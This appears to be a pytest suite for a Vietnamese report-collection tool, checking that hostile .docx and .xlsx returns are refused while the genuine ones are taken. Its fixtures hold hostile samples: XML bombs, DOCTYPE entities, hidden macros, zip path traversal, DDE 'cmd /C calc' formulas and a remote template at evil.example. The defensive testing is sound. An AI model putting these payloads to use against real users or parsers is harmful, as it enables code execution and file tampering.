"""Hostile files in a batch of returns: each is refused with a Vietnamese reason, the genuine
files of the same batch are taken, nothing of a refused file reaches the data, and the
collect stays small in memory."""

from __future__ import annotations

import random
import re
import shutil
import subprocess
import sys
import warnings
import zipfile
from pathlib import Path

import docx
import pytest
import yaml

from conftest import REPO, run_cli
from generator.app import main as pipeline
from generator.base import ooxml

import fill_returns  # tools/, put on the path by conftest


def rezip(source: Path, target: Path, change=None, extra: dict[str, bytes] | None = None) -> Path:
    """A copy of ``source`` with its entries passed through ``change(name, data)``."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item)
            if change is not None:
                data = change(item.filename, data)
            dst.writestr(item.filename, data)
        for name, data in (extra or {}).items():
            dst.writestr(name, data)
    return target


def many_elements(target: Path) -> Path:
    """A .docx whose document.xml holds two million small elements, every size limit kept:
    the file is small, the entry unpacks under the limit, its ratio is ordinary."""
    rng = random.Random(1)
    head = ('<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.'
            'openxmlformats.org/wordprocessingml/2006/main"><w:body>')
    alphabet = "0123456789ABCDEF"
    body = "".join(f'<w:p w:rsidR="{"".join(rng.choice(alphabet) for _ in range(4))}"/>'
                   for _ in range(2_000_000))
    xml = (head + body + "</w:body></w:document>").encode()
    types = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
             'content-types"><Default Extension="xml" ContentType="application/xml"/>'
             '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
             'officedocument.wordprocessingml.document.main+xml"/></Types>')
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", types)
        zf.writestr("word/document.xml", xml)
    info = zipfile.ZipFile(target).getinfo("word/document.xml")
    # inside every limit that existed before: the element count is what must stop it
    assert target.stat().st_size < ooxml.MAX_FILE
    assert info.file_size < ooxml.MAX_UNPACKED
    assert info.file_size < ooxml.MAX_RATIO * info.compress_size
    return target


W_DOC = ('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
         '<w:body>{}</w:body></w:document>')
DOCX_TYPES = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
              'content-types"><Default Extension="xml" ContentType="application/xml"/>'
              '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
              'officedocument.wordprocessingml.document.main+xml"/></Types>')


def bare_docx(target: Path, document: bytes) -> Path:
    """A .docx of two parts: the content types and ``document``."""
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", DOCX_TYPES)
        zf.writestr("word/document.xml", document)
    info = zipfile.ZipFile(target).getinfo("word/document.xml")
    # inside every limit on bytes: only what the parser would build can stop it
    assert target.stat().st_size < ooxml.MAX_FILE and info.file_size < ooxml.MAX_UNPACKED
    assert info.file_size < ooxml.MAX_RATIO * info.compress_size
    return target


def many_attributes(target: Path) -> Path:
    """240.000 elements of 30 attributes each: few «<», 7 million attributes (a 6 MB file)."""
    noise = random.Random(2).randbytes(240_000 * 30).hex()
    names = "abcdefghijklmnopqrstuvwxyzABCD"
    body = "".join("<w:p " + " ".join(f'{a}="{noise[2 * (30 * i + k):2 * (30 * i + k) + 2]}"'
                                      for k, a in enumerate(names)) + "/>"
                   for i in range(240_000))
    return bare_docx(target, ('<?xml version="1.0" encoding="UTF-8"?>' + W_DOC.format(body)).encode())


def utf7_markup(target: Path) -> Path:
    """document.xml declared UTF-7, every «<» but the declaration's written «+ADw-»: no
    markup to count in its bytes, 1,5 million elements once decoded."""
    rng = random.Random(3)
    noise = rng.randbytes(1_500_000 * 2).hex().upper()
    body = "".join(f"+ADw-w:p w:rsidR=+ACI-{noise[4 * i:4 * i + 4]}+ACI-/+AD4-" for i in range(1_500_000))
    head = ('+ADw-w:document xmlns:w=+ACI-http://schemas.openxmlformats.org/wordprocessingml/2006/'
            'main+ACI-+AD4-+ADw-w:body+AD4-')
    xml = '<?xml version="1.0" encoding="UTF-7"?>' + head + body + "+ADw-/w:body+AD4-+ADw-/w:document+AD4-"
    assert xml.count("<") == 1
    return bare_docx(target, xml.encode("ascii"))


DOCTYPE = b'<!DOCTYPE x [<!ENTITY a "b">]>'


def with_doctype(part: str):
    """A change putting a DOCTYPE (with an entity) after the declaration of ``part``."""
    def change(name: str, data: bytes) -> bytes:
        return data.replace(b"?>", b"?>" + DOCTYPE, 1) if name == part else data
    return change


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    out = root / "out"
    pipeline.build(REPO / "data", out)
    folder = root / "batch"
    folder.mkdir()
    rng = random.Random(4)
    skeletons = sorted((out / "don-vi").glob("*.docx"))
    good = []
    for path in skeletons[:3]:
        fill_returns.fill(path, folder / f"tot-{path.stem}.docx", rng)
        good.append(path.stem)
    victims = {p.stem: p for p in skeletons[3:]}
    forged = iter(sorted(victims))

    def filled(name: str) -> Path:
        """Another unit's skeleton filled, to be made hostile."""
        fill_returns.fill(victims[name], root / f"{name}.docx", rng)
        return root / f"{name}.docx"

    hostile = {}
    hostile["nhieu-the"] = many_elements(folder / "nhieu-the.docx")
    unit = next(forged)
    hostile["doctype-sau-chu-thich"] = rezip(
        filled(unit), folder / "doctype-sau-chu-thich.docx",
        lambda n, d: (d.replace(b"?>", b"?><!--" + b"x" * 6000 + b'--><!DOCTYPE w:document '
                                b'SYSTEM "http://127.0.0.1:9/x.dtd">', 1)
                      if n == "word/document.xml" else d))
    unit = next(forged)
    hostile["macro-doi-ten"] = rezip(
        filled(unit), folder / "macro-doi-ten.docx",
        lambda n, d: (d.replace(b"application/vnd.openxmlformats-officedocument.wordprocessingml."
                                b"document.main+xml",
                                b"application/vnd.ms-word.document.macroEnabled.main+xml")
                      if n == "[Content_Types].xml" else d),
        extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512})
    unit = next(forged)
    hostile["ten-phan-ra-ngoai"] = rezip(filled(unit), folder / "ten-phan-ra-ngoai.docx",
                                         extra={"../../ngoai.txt": b"x"})
    unit = next(forged)
    hostile["ten-phan-tuyet-doi"] = rezip(filled(unit), folder / "ten-phan-tuyet-doi.docx",
                                          extra={"/etc/vanban.txt": b"x"})
    openpyxl = pytest.importorskip("openpyxl")
    for name, formula in (("cong-thuc", "=1+1"), ("dde", "=cmd|' /C calc'!A0")):
        unit = next(forged)
        book = openpyxl.load_workbook(out / "don-vi" / f"{unit}.xlsx")
        sheet = book["Phụ lục 1"]
        sheet["D7"] = 120
        sheet["D8"] = formula
        book.save(folder / f"{name}.xlsx")
        hostile[name] = folder / f"{name}.xlsx"
    newline = folder / "Báo cáo\nxấu.docx"
    newline.write_bytes(b"not a zip at all")
    hostile["ten-co-xuong-dong"] = newline

    # -- what parsers build, not bytes -------------------------------------------------------
    hostile["nhieu-thuoc-tinh"] = many_attributes(folder / "nhieu-thuoc-tinh.docx")
    hostile["utf-7"] = utf7_markup(folder / "utf-7.docx")
    # -- the same rules in every part, read by vanban or not ----------------------------------
    for name, part in (("doctype-styles", "word/styles.xml"), ("doctype-settings", "word/settings.xml"),
                       ("doctype-header", "word/header1.xml"),
                       ("doctype-rels", "word/_rels/document.xml.rels"),
                       ("doctype-docprops", "docProps/app.xml")):
        unit = next(forged)
        hostile[name] = rezip(filled(unit), folder / f"{name}.docx", with_doctype(part))
    unit = next(forged)
    hostile["doctype-utf16"] = rezip(
        filled(unit), folder / "doctype-utf16.docx",
        lambda n, d: (with_doctype(n)(n, d).decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
                      .encode("utf-16") if n == "word/fontTable.xml" else d))
    unit = next(forged)
    hostile["macro-ten-khac"] = rezip(   # macros as a «picture»: only the relationship says what it is
        filled(unit), folder / "macro-ten-khac.docx",
        lambda n, d: (d.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.'
                                b'microsoft.com/office/2006/relationships/vbaProject" Target="media/'
                                b'logo.png"/></Relationships>') if n == "word/_rels/document.xml.rels"
                      else d.replace(b"<Default ", b'<Default Extension="png" ContentType="image/png"/>'
                                     b"<Default ", 1) if n == "[Content_Types].xml" else d),
        extra={"word/media/logo.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096})
    unit = next(forged)
    hostile["mau-o-xa"] = rezip(
        filled(unit), folder / "mau-o-xa.docx",
        extra={"word/_rels/settings.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.'
            'example/mau.dotm" TargetMode="External"/></Relationships>').encode()})
    unit = next(forged)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")   # zipfile warns of the duplicate: that is the point
        hostile["hai-phan-cung-ten"] = rezip(
            filled(unit), folder / "hai-phan-cung-ten.docx",
            extra={"word/document.xml": W_DOC.format("").encode()})
    unit = next(forged)
    book = openpyxl.load_workbook(out / "don-vi" / f"{unit}.xlsx")
    book["Phụ lục 1"]["D7"] = 120
    book.save(root / "lien-ket-ngoai.xlsx")
    link = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.'
            'openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc">'
            '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>')
    hostile["lien-ket-ngoai"] = rezip(
        root / "lien-ket-ngoai.xlsx", folder / "lien-ket-ngoai.xlsx",
        lambda n, d: (d.replace(b"</Relationships>", b'<Relationship Id="rIdDde" Type="http://schemas.'
                                b'openxmlformats.org/officeDocument/2006/relationships/externalLink" '
                                b'Target="externalLinks/externalLink1.xml"/></Relationships>')
                      if n == "xl/_rels/workbook.xml.rels" else d),
        extra={"xl/externalLinks/externalLink1.xml": link.encode()})
    # -- absurd figures: the file is taken, the cell is a finding -----------------------------
    absurd = {}
    unit = next(forged)
    source = filled(unit)
    document = docx.Document(source)
    fill_returns.type_into(fill_returns.marked_cells(document)["vanban:pl1:r2:so-luong"],
                           "1000000000000000000000000000000")
    document.save(folder / "so-qua-lon.docx")
    absurd["so-qua-lon"] = unit
    unit = next(forged)
    book = openpyxl.load_workbook(out / "don-vi" / f"{unit}.xlsx")
    book["Phụ lục 1"]["D7"], book["Phụ lục 1"]["D8"] = 120, 5
    book.save(root / "so-vo-han.xlsx")
    rezip(root / "so-vo-han.xlsx", folder / "so-vo-han.xlsx",
          lambda n, d: re.sub(rb'(<c r="D8"[^>]*>)<v>5</v>', rb"\g<1><v>1e400</v>", d)
          if n.startswith("xl/worksheets/") else d)
    absurd["so-vo-han"] = unit
    # -- a unit that signs as another: its properties name a unit its header does not ---------
    unit, other = next(forged), next(forged)
    signed = {}
    signed["gia-danh"] = rezip(
        filled(unit), folder / "gia-danh.docx",
        lambda n, d: d.replace(f">{unit}<".encode(), f">{other}<".encode()) if n == "docProps/custom.xml" else d)
    return {"folder": folder, "good": good, "hostile": hostile, "root": root, "absurd": absurd,
            "signed": signed}


REASONS = {
    "nhieu-the": "thẻ XML",
    "doctype-sau-chu-thich": "DOCTYPE",
    "macro-doi-ten": "macro",
    "ten-phan-ra-ngoai": "trỏ ra ngoài tệp",
    "ten-phan-tuyet-doi": "trỏ ra ngoài tệp",
    "cong-thuc": "chứa công thức «=1+1»",
    "dde": "DDE",
    "ten-co-xuong-dong": "không phải tệp .docx",
    "nhieu-thuoc-tinh": "thuộc tính",
    "utf-7": "bảng mã «UTF-7»",
    "doctype-styles": "word/styles.xml có khai báo DOCTYPE",
    "doctype-settings": "word/settings.xml có khai báo DOCTYPE",
    "doctype-header": "word/header1.xml có khai báo DOCTYPE",
    "doctype-rels": "word/_rels/document.xml.rels có khai báo DOCTYPE",
    "doctype-docprops": "docProps/app.xml có khai báo DOCTYPE",
    "doctype-utf16": "word/fontTable.xml có khai báo DOCTYPE",
    "macro-ten-khac": "macro",
    "mau-o-xa": "mẫu đính kèm (attached template) ở máy khác",
    "hai-phan-cung-ten": "hai phần cùng tên «word/document.xml»",
    "lien-ket-ngoai": "liên kết ngoài",
}


def test_hostile_files_stay_out_and_the_rest_is_taken(batch, tmp_path):
    data = tmp_path / "data"
    shutil.copytree(REPO / "data", data)
    # a separate process, so that its peak memory (VmHWM: reset by exec) is its own
    script = ("import sys; from generator.cli import main\n"
              "try:\n    main(sys.argv[1:])\nexcept SystemExit as e:\n    code = e.code\n"
              "peak = next(l for l in open('/proc/self/status') if l.startswith('VmHWM'))\n"
              "print('PEAK', peak.split()[1], file=sys.stderr)\n"
              "sys.exit(code)\n")
    done = subprocess.run([sys.executable, "-c", script, "collect", batch["folder"], "--data", data],
                          cwd=REPO, capture_output=True, text=True, timeout=300)
    err = done.stderr
    assert done.returncode == 1, err
    assert "Traceback" not in err
    peak_mb = int(re.search(r"PEAK (\d+)", err).group(1)) // 1024
    refused = [line for line in err.splitlines() if ": không nhận: " in line]
    tried = len(list(batch["folder"].iterdir()))
    taken = sorted(p.stem for p in (data / "bao-cao").glob("*.yaml"))
    print(f"\nlô thử: {tried} tệp, không nhận {len(refused)}, xung đột {len(err.split(': xung đột: ')) - 1}, "
          f"nhận {len(taken)}; bộ nhớ cao nhất {peak_mb} MB")
    assert tried == len(batch["hostile"]) + len(batch["good"]) + len(batch["absurd"]) + len(batch["signed"])
    disputed = [line for line in err.splitlines() if ": xung đột: " in line]
    assert [l.split(": xung đột: ")[0] for l in disputed] == [str(p) for p in batch["signed"].values()]
    assert all("không được lưu cho đơn vị nào" in l for l in disputed)
    for name, path in batch["hostile"].items():
        shown = str(path).replace("\n", "\\n")
        line = next((l for l in refused if l.startswith(shown + ": ")), None)
        assert line is not None, (name, err)
        assert REASONS[name] in line, line
    assert "\nxấu.docx" not in err and "Báo cáo\\nxấu.docx" in err   # printed, not obeyed
    assert not re.search(r"\b(Error|error|Exception|No such|line \d+, column)\b", err), err
    assert len(refused) == len(batch["hostile"])
    assert taken == sorted(batch["good"] + list(batch["absurd"].values()))
    for record in (data / "bao-cao").glob("*.yaml"):
        saved = yaml.safe_load(record.read_text(encoding="utf-8"))
        if record.stem in batch["absurd"].values():     # taken; the absurd cell a finding, blank
            assert saved["figures"]["pl1"]["r2"]["so-luong"] is None
            assert any("dòng «Số văn bản" in f for f in saved["findings"])
        else:
            assert saved["source"]["file"].startswith("tot-")
    assert peak_mb < 300, peak_mb
    assert not (tmp_path / "ngoai.txt").exists() and not Path("/etc/vanban.txt").exists()


def test_a_hostile_file_alone_is_refused_in_vietnamese(batch, tmp_path, capsys):
    data = tmp_path / "data"
    shutil.copytree(REPO / "data", data)
    code, out, err = run_cli(["collect", batch["hostile"]["doctype-sau-chu-thich"], "--data", data],
                             capsys)
    assert code == 1 and "DOCTYPE" in err and "làm giả" in err
    assert not list((data / "bao-cao").glob("*.yaml"))


def test_a_utf16_part_is_searched_for_declarations():
    xml = '<?xml version="1.0" encoding="UTF-16"?><!-- c --><!DOCTYPE a><a/>'.encode("utf-16")
    with pytest.raises(ooxml.Refused, match="DOCTYPE"):
        ooxml.safe_xml(xml, "word/document.xml")


def test_deep_nesting_is_refused():
    xml = b"<a>" * 300 + b"</a>" * 300
    with pytest.raises(ooxml.Refused, match="lồng quá sâu"):
        ooxml.safe_xml(xml, "word/document.xml")


@pytest.mark.parametrize("encoding", ["UTF-7", "ISO-8859-1", "UTF-32", "cp1258"])
def test_only_the_encodings_office_writes_are_read(encoding):
    xml = f'<?xml version="1.0" encoding="{encoding}"?><a/>'.encode()
    with pytest.raises(ooxml.Refused, match=f"bảng mã «{encoding}»"):
        ooxml.safe_xml(xml, "word/document.xml")


def test_a_part_in_utf16_is_read():
    xml = '<?xml version="1.0" encoding="UTF-16"?><a b="Đảng ủy"><c/></a>'.encode("utf-16")
    assert ooxml.safe_xml(xml, "word/document.xml").get("b") == "Đảng ủy"


def test_the_budget_counts_what_the_parser_builds():
    """Elements, attributes and namespace declarations count; text that only looks like markup
    («=» in words) does not make a genuine part refused."""
    three = b'<a xmlns:x="u" x:b="1"><c/></a>'          # 2 elements, 1 attribute, 1 declaration
    assert ooxml.safe_xml(three, "p", budget=4) is not None
    with pytest.raises(ooxml.Refused, match="thuộc tính"):
        ooxml.safe_xml(three, "p", budget=3)
    words = b"<a>" + b"x = y; " * 50 + b"</a>"              # 50 «=» that are words, 1 element
    assert ooxml.safe_xml(words, "p", budget=2).text.startswith("x = y")


def test_a_part_is_read_as_zipfile_reads_it_and_damage_is_refused_as_before(batch, tmp_path):
    """A part is unpacked straight from the file's bytes only when that gives exactly what
    zipfile gives (its local header, size and checksum agree with the directory); a damaged
    part is left to zipfile, and the file refused with the same reason as ever."""
    good = next(iter(sorted(batch["folder"].glob("tot-*.docx"))))
    raw = good.read_bytes()
    with zipfile.ZipFile(good) as zf:
        parts = {name: zf.read(name) for name in zf.namelist()}
        info = zf.getinfo("word/document.xml")
    package = ooxml.Package(good)
    assert {name: package.read(name) for name in parts} == parts
    directory = raw.rindex(b"PK\x01\x02", 0, raw.rindex(b"word/document.xml"))   # its entry there
    local = info.header_offset             # its local header: 30 bytes, its name, its extra field
    data = local + 30 + int.from_bytes(raw[local + 26:local + 28], "little") \
        + int.from_bytes(raw[local + 28:local + 30], "little")

    def damaged(name: str, offset: int, new: bytes) -> Path:
        target = tmp_path / name
        target.write_bytes(raw[:offset] + new + raw[offset + len(new):])
        return target

    for path in (damaged("du-lieu.docx", data + info.compress_size // 2,
                         bytes(b ^ 0x55 for b in raw[data + info.compress_size // 2:][:4])),
                 damaged("crc.docx", directory + 16, bytes(b ^ 0xFF for b in raw[directory + 16:][:4])),
                 damaged("ten-khac.docx", local + 30, b"W"),
                 damaged("cut.docx", data + 40, bytes(200))):
        with pytest.raises(ooxml.Refused, match=r"^không đọc được phần word/document\.xml \(tệp hỏng"):
            ooxml.Package(path)
    # a size in the directory larger than what the data unpack to: zipfile takes the part as
    # it unpacks (its checksum agrees), and so does vanban
    size = int.from_bytes(raw[directory + 24:directory + 28], "little")
    larger = damaged("co-lon.docx", directory + 24, (size + 10).to_bytes(4, "little"))
    with zipfile.ZipFile(larger) as zf:
        assert ooxml.Package(larger).read("word/document.xml") == zf.read("word/document.xml") \
            == parts["word/document.xml"]


def test_a_part_seen_before_passes_only_as_the_very_same_bytes(batch, tmp_path):
    """Parts that passed are not checked again when another file brings the very same bytes
    (the returns of a campaign share their styles, theme, fonts); a part changed by one byte,
    or announced otherwise in the directory, is checked again — and refused."""
    good = next(iter(sorted(batch["folder"].glob("tot-*.docx"))))
    ooxml.Package(good)
    ooxml.Package(good)                     # the second time from what was remembered
    assert any(key[0] == "word/styles.xml" for key in ooxml._PASSED)
    forged = rezip(good, tmp_path / "kieu.docx", with_doctype("word/styles.xml"))
    with pytest.raises(ooxml.Refused, match=r"^phần word/styles\.xml .*DOCTYPE"):
        ooxml.Package(forged)
    raw = good.read_bytes()
    with zipfile.ZipFile(good) as zf:
        info = zf.getinfo("word/styles.xml")
    at = raw.rindex(b"PK\x01\x02", 0, raw.rindex(b"word/styles.xml")) + 16   # its checksum there
    bad_sum = tmp_path / "tong-kiem.docx"
    bad_sum.write_bytes(raw[:at] + bytes(b ^ 0xFF for b in raw[at:at + 4]) + raw[at + 4:])
    assert info.CRC.to_bytes(4, "little") == raw[at:at + 4]
    with pytest.raises(ooxml.Refused, match=r"^không đọc được phần word/styles\.xml \(tệp hỏng"):
        ooxml.Package(bad_sum)
    ooxml.Package(good)


def test_the_tag_limit_counts_every_chunk_as_it_did():
    """«<» are counted only once a part's bytes could hold more than the limit, but then every
    one of them, those of the chunks before included: the part is refused at the very chunk
    that passes the limit — a checking pass and a parse alike."""
    chunk = b"<b></b>" * 500                      # 1.000 «<» (500 elements) in 3.500 bytes
    for parse in (False, True):
        part = ooxml._Part("word/document.xml", parse=parse, budget=400_000 if parse else ooxml.MAX_NODES)
        last = part.max_tags // 1000              # «<a>» and this many chunks: one past the limit
        part.feed(b"<a>")
        for _ in range(last - 1):
            part.feed(chunk)
        with pytest.raises(ooxml.Refused, match="thẻ XML"):
            part.feed(chunk)
        assert part.tags == part.max_tags + 1
